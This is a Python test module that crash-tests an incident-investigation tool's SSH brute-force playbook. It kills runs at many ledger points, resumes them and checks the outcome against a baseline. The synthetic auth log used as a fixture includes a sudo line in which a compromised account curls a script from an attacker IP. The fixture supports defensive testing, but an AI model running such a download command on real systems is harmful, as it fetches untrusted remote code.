"""Part 1: SIGKILL a guided case at many moments (and its resume at some), resume it to the end, check it.

The case is `linux.ssh.bruteforce` on target `local`, reading a small auth log written here (two brute
forces that got in, one fan-out over the two accounts, sudo lines), approved on the console from piped
answers. A kill lands after the k-th ledger entry, for k spread over the whole ledger of an uncrashed run:
this process watches ledger.jsonl's whole lines and SIGKILLs the process group as soon as there are k
(under load it may land a few entries later; the position reached is recorded). Some cases are killed
again during their first resume, a few entries after it started. A few more die at the product's own
named crash points (SLEUTH_CRASH_AT), which reach moments a watcher cannot: between a tool's effect and
its ledger entry. Each case is then checked by kill_gates against the uncrashed baseline.
"""

from __future__ import annotations

import contextlib
import subprocess
import tempfile
import time
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

from tests.campaign.common import (
    Run,
    complete_lines,
    kill_group,
    ledger_path,
    only_case,
    read_ledger,
    sleuth,
    spawn,
)
from tests.campaign.kill_gates import Baseline, CaseRuns, baseline_of, check_case

PLAYBOOK = "linux.ssh.bruteforce"
ANSWERS = "a\n" * 40
"""More approvals than any case asks for: the surplus is never read."""
AUTH_LOG = """\
Dec  1 10:00:01 web01 sshd[101]: Failed password for root from 203.0.113.9 port 40001 ssh2
Dec  1 10:00:02 web01 sshd[101]: Failed password for root from 203.0.113.9 port 40002 ssh2
Dec  1 10:00:03 web01 sshd[101]: Failed password for admin from 203.0.113.9 port 40003 ssh2
Dec  1 10:00:04 web01 sshd[102]: Failed password for root from 198.51.100.7 port 40004 ssh2
Dec  1 10:05:00 web01 sshd[103]: Accepted password for deploy from 203.0.113.9 port 40005 ssh2
Dec  1 10:06:00 web01 sshd[104]: Accepted password for backup from 198.51.100.7 port 40006 ssh2
Dec  1 10:06:30 web01 sudo:   deploy : TTY=pts/0 ; PWD=/home/deploy ; USER=root ; \
COMMAND=/usr/bin/curl -o /tmp/x http://203.0.113.9/x.sh
Dec  1 10:07:00 web01 sudo:   backup : TTY=pts/1 ; PWD=/home/backup ; USER=root ; COMMAND=/usr/bin/id
Dec  1 10:08:00 web01 sshd[105]: Accepted publickey for alice from 192.0.2.10 port 40007 ssh2
"""
NAMED_POINTS = (
    "after:plan#1",
    "after:propose#3",
    "after:approve#3",
    "after:execute#3",
    "after:analyse#3",
    "after:advance#3",
    "execute:started#3",
    "execute:ran#4",
    "execute:ran#5",
    "report:recorded#1",
)
"""Named crash points: the 4th and 5th tool runs are the two items of the fan-out step."""
QUICK_POINTS = ("execute:ran#4",)
DEFAULT_KILLS = 10
"""Kill moments by default, with the 10 named points: 16 took 321 s on 2 cores shared with other suites
(load 8-13); `--kills 42` kills after every ledger entry (584 s there)."""
RUN_TIMEOUT_S = 120.0
MAX_RESUMES = 4


@dataclass(frozen=True)
class KillPlan:
    """Where one case dies: after `at` ledger lines (or at a named point), then maybe in its resume."""

    label: str
    """How the summary names it."""
    at: int | None = None
    """Kill the run once the ledger holds this many whole lines."""
    point: str | None = None
    """Or: the named crash point (SLEUTH_CRASH_AT) the run dies at."""
    again: int | None = None
    """Kill the first resume once it has added this many ledger lines."""


@dataclass
class Scene:
    """One SLEUTH_HOME with the auth log, for one case."""

    home: Path
    log: Path = field(init=False)

    def __post_init__(self) -> None:
        self.home.mkdir(parents=True, exist_ok=True)
        self.log = self.home / "auth.log"
        self.log.write_text(AUTH_LOG, encoding="utf-8")

    @property
    def cases(self) -> Path:
        """Where this scene's case lives."""
        return self.home / "cases"

    def run_args(self) -> list[str]:
        """`sleuth run` of the playbook on local, guided, on the console."""
        return [
            "run",
            PLAYBOOK,
            "--target",
            "local",
            "--log",
            f"auth={self.log}",
            "--backend",
            "guided",
            "--console",
            "--case-dir",
            str(self.cases),
        ]

    def resume_args(self, case: Path) -> list[str]:
        """`sleuth resume CASE` on the console."""
        return ["resume", case.name, "--case-dir", str(self.cases), "--console"]


def run_killed_at(scene: Scene, args: list[str], lines: int) -> tuple[Run, int | None]:
    """Run `sleuth ARGS`, SIGKILLing its group once the ledger holds `lines` whole lines.

    Returns the run and the whole lines when the kill was sent (None: it ended first).
    """
    with tempfile.TemporaryFile("w+") as out, tempfile.TemporaryFile("w+") as err:
        started = time.monotonic()
        child = spawn(args, scene.home, stdout=out, stderr=err)
        assert child.stdin is not None
        child.stdin.write(ANSWERS)
        child.stdin.close()
        at_kill = _watch(child, scene.cases, lines, started + RUN_TIMEOUT_S)
        child.wait()
        out.seek(0)
        err.seek(0)
        return Run(tuple(args), child.returncode, out.read(), err.read(), time.monotonic() - started), at_kill


def _watch(child: subprocess.Popen[str], cases: Path, lines: int, until: float) -> int | None:
    """Poll the ledger every millisecond; kill at `lines` whole lines (or at `until`)."""
    ledger: Path | None = None
    while child.poll() is None:
        if ledger is None:
            case = only_case(cases)
            ledger = ledger_path(case) if case is not None else None
        count = complete_lines(ledger) if ledger is not None else 0
        if count >= lines or time.monotonic() > until:
            kill_group(child)
            return count
        time.sleep(0.001)
    return None


def drive_case(scene: Scene, plan: KillPlan) -> CaseRuns:
    """Crash the case as `plan` says, then resume it until it closes (at most MAX_RESUMES times)."""
    runs = CaseRuns()
    args = scene.run_args()
    if plan.point is not None:
        run = sleuth(
            *args, home=scene.home, stdin=ANSWERS, timeout=RUN_TIMEOUT_S, env={"SLEUTH_CRASH_AT": plan.point}
        )
        runs.add(run, None, [], _torn(scene))
    else:
        assert plan.at is not None
        run, at_kill = run_killed_at(scene, args, plan.at)
        runs.add(run, at_kill, [], _torn(scene))
    case = only_case(scene.cases)
    if case is None:
        return runs
    runs.case_dir = case
    for attempt in range(MAX_RESUMES):
        before = read_ledger(case)
        if attempt == 0 and plan.again is not None and runs.kill_sent:
            run, at_kill = run_killed_at(
                scene, scene.resume_args(case), complete_lines(ledger_path(case)) + plan.again
            )
            runs.add(run, at_kill, before, _torn(scene))
            continue
        run = sleuth(*scene.resume_args(case), home=scene.home, stdin=ANSWERS, timeout=RUN_TIMEOUT_S)
        runs.add(run, None, before, _torn(scene))
        if run.returncode != -9:
            break
    return runs


def _torn(scene: Scene) -> bool:
    """Whether the scene's ledger ends in a torn (not newline-ended) line."""
    case = only_case(scene.cases)
    raw = ledger_path(case).read_bytes() if case is not None and ledger_path(case).exists() else b""
    return bool(raw) and not raw.endswith(b"\n")


def plans(total: int, kills: int | None, quick: bool) -> list[KillPlan]:
    """Kill moments spread over 1..total ledger lines; every 2nd also killed in its resume; named points.

    Quick: two moments inside the run (a third and two thirds of the way), the second killed again in its
    resume, and one named point; the ends of the ledger are the full campaign's.
    """
    if quick:
        spots = [max(1, total // 3), max(1, 2 * total // 3)]
    else:
        count = min(kills if kills is not None else DEFAULT_KILLS, total)
        spots = sorted({round(1 + i * (total - 1) / max(count - 1, 1)) for i in range(count)})
    out = [
        KillPlan(
            f"ledger:{k}" + (f"+resume:{1 + i % 6}" if i % 2 else ""),
            at=k,
            again=1 + i % 6 if i % 2 else None,
        )
        for i, k in enumerate(spots)
    ]
    out += [KillPlan(f"point:{p}", point=p) for p in (QUICK_POINTS if quick else NAMED_POINTS)]
    return out


@contextlib.contextmanager
def _workdir(root: Path | None) -> Iterator[Path]:
    if root is not None:
        root.mkdir(parents=True, exist_ok=True)
        yield root
        return
    with tempfile.TemporaryDirectory(prefix="sleuth-kills-") as tmp:
        yield Path(tmp)


def run_kills(kills: int | None, quick: bool, workers: int, root: Path | None = None) -> dict[str, Any]:
    """The kills part: baseline, crashed cases in parallel, gates; a JSON-able summary."""
    started = time.monotonic()
    with _workdir(root) as work:
        base_scene = Scene(work / "baseline")
        base_run = sleuth(*base_scene.run_args(), home=base_scene.home, stdin=ANSWERS, timeout=RUN_TIMEOUT_S)
        base_case = only_case(base_scene.cases)
        if base_run.returncode != 0 or base_case is None:
            return {
                "ok": False,
                "error": f"baseline run failed: rc {base_run.returncode}",
                "stderr_tail": base_run.stderr[-2000:],
            }
        baseline = baseline_of(base_case)
        todo = plans(baseline.lines, kills, quick)
        with ThreadPoolExecutor(max_workers=workers) as pool:
            results = list(pool.map(lambda ip: _one(work, ip[0], ip[1], baseline), enumerate(todo)))
    return _summary(results, baseline, time.monotonic() - started)


def _one(work: Path, index: int, plan: KillPlan, baseline: Baseline) -> dict[str, Any]:
    started = time.monotonic()
    scene = Scene(work / f"case-{index:03d}")
    runs = drive_case(scene, plan)
    result = check_case(runs, baseline)
    result["plan"] = plan.label
    result["wall_s"] = round(time.monotonic() - started, 1)
    return result


def _summary(results: list[dict[str, Any]], baseline: Baseline, wall_s: float) -> dict[str, Any]:
    gates = sorted({g for r in results for g in r["gates"]})
    failed = [r for r in results if not all(r["gates"].values())]
    return {
        "ok": not failed and bool(results),
        "baseline_ledger_entries": baseline.lines,
        "baseline_verdict": baseline.verdict,
        "cases": len(results),
        "sigkills_delivered": sum(r["kills"] for r in results),
        "cases_survived": len(results) - len(failed),
        "kill_positions_reached": sorted({p for r in results for p in r["kill_positions"]}),
        "reexecutions_flagged": sum(r["reexecutions"] for r in results),
        "torn_lines_at_kill": sum(r["torn_at_kill"] for r in results),
        "gate_failures": {g: sum(1 for r in results if not r["gates"].get(g, True)) for g in gates},
        "tracebacks": sum(r["tracebacks"] for r in results),
        "failed_cases": [{k: r[k] for k in ("plan", "gates", "detail", "case_dir", "runs")} for r in failed],
        "slowest_case": max((r for r in results), key=lambda r: r["wall_s"], default={}).get("plan"),
        "wall_s": round(wall_s, 1),
    }
